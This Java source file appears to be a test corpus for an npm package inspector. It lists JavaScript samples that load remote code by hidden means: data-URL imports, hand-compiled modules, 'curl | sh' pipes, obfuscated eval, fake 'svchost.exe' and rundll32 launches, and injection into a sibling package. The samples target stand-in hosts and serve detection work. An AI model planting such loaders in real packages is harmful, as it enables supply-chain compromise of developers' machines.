package cordon.inspect.corpus;

import java.util.List;

/** Code that comes from elsewhere, by ways on which its text is easily lost from sight. */
final class NpmRemoteCode {
  private NpmRemoteCode() {}

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "a module in a data URL",
            """
            (async () => {
              const src = await (await fetch('https://esm.example/x.mjs')).text();
              await import('data:text/javascript,' + encodeURIComponent(src));
            })();
            """),
        Sample.required(
            "an encoded module in a data URL",
            "import('data:text/javascript;base64,' + 'Y29uc29sZS5sb2coJ2luZXJ0Jyk=');\n"),
        Sample.required(
            "a module made by hand",
            """
            const Module = require('module');
            function load(src, name) { const m = new Module(name, module); m._compile(src, name); }
            require('http').get('http://192.0.2.51/mod', r => {
              let t = ''; r.on('data', c => { t += c; }); r.on('end', () => load(t, 'r.js'));
            });
            """),
        Sample.postinstall(
            "written, then required",
            """
            const fs = require('fs'), os = require('os'), path = require('path');
            const p = path.join(os.tmpdir(), 'cache_' + Date.now() + '.js');
            const f = fs.createWriteStream(p);
            require('https').get('https://assets.example/a.js', r => r.pipe(f));
            f.on('finish', () => { f.close(); require(p); });
            """),
        Sample.postinstall(
            "into the input of a shell",
            """
            const sh = require('child_process').spawn('sh', [], { stdio: ['pipe', 'ignore', 'ignore'] });
            require('https').get('https://get.example/i.sh', r => r.pipe(sh.stdin));
            """),
        Sample.postinstall(
            "a promise made by hand",
            """
            class Loader {
              fetch() {
                return new Promise((ok, bad) => {
                  require('https').get(this.u, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => ok(d)); });
                });
              }
              async run() { const f = new Function('require', await this.fetch()); f(require); }
            }
            new Loader().run();
            """),
        Sample.required(
            "parameters of a function made of text",
            "[].filter.constructor('r', \"r('child_process').exec('curl -s http://192.0.2.3/x|sh')\")(require);\n"),
        Sample.required(
            "the global object by a function made of text",
            """
            const g = Function('return this')();
            g['pro' + 'cess']['main' + 'Module']['req' + 'uire']('chi' + 'ld_process').exec('curl -s http://192.0.2.3/x | sh');
            """),
        Sample.required(
            "variation selectors",
            "const s = v => [...v].map(w => w.codePointAt(0) - 0xFE00);\neval(Buffer.from(s(`"
                + "\uFE06\uFE03".repeat(20)
                + "`)).toString());\n"),
        Sample.required(
            "letters moved round the alphabet",
            """
            const t = 'frqvroh.orj(1)';
            eval(t.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 23) % 26 + 97)));
            """),
        Sample.postinstall(
            "a program called like one of the system",
            """
            const https = require('https'), fs = require('fs'), path = require('path'), { execFile } = require('child_process');
            const out = path.join(process.env.TEMP || '/tmp', 'svchost.exe');
            const file = fs.createWriteStream(out);
            https.get('https://cdn.example/update.exe', r => { r.pipe(file); file.on('finish', () => execFile(out)); });
            """),
        Sample.postinstall(
            "a second runtime",
            """
            const { execFileSync } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
            const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'b-'));
            (async () => {
              const r = await fetch(`https://code.example/bun-${os.platform()}-${os.arch()}.zip`);
              fs.writeFileSync(path.join(tmp, 'bun.zip'), Buffer.from(await r.arrayBuffer()));
              execFileSync('unzip', ['-oq', path.join(tmp, 'bun.zip'), '-d', tmp]);
              execFileSync(path.join(tmp, 'bun'), ['run', path.join(__dirname, 'execution.js')]);
            })();
            """),
        Sample.postinstall(
            "put into another package",
            """
            const fs = require('fs'), path = require('path');
            const target = path.join(process.cwd(), '..', 'other', 'index.js');
            const src = fs.readFileSync(target, 'utf8');
            fs.writeFileSync(target, src + "\\nrequire('child_process').exec('curl -s http://192.0.2.3/s | sh');\\n");
            """),
        Sample.postinstall(
            "a library by a system program",
            """
            require('child_process').spawn('rundll32', [require('path').join(__dirname, 'a.dll') + ',main'], { stdio: 'ignore' });
            """));
  }
}
